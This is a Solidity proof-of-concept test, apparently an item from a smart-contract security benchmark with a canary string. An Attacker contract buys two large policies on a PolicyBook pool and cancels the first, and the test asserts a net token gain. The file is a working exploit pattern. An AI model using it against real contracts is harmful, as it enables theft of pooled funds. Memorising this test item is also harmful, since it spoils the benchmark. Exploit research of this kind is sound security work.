// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(IERC20 _crown, PolicyBook _book, address _pool) external {
        _crown.approve(address(_book), type(uint256).max);
        uint256 id = _book.buy(_pool, Peril.Damage, 400_000e18, 300, type(uint256).max, address(this));
        _book.buy(_pool, Peril.Damage, 400_000e18, 7, type(uint256).max, address(this));
        _book.cancel(id);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        crown.mint(address(other), 120_000e18);
    }

    function exploit() public {
        other.run(crown, book, address(vale));
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 160_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
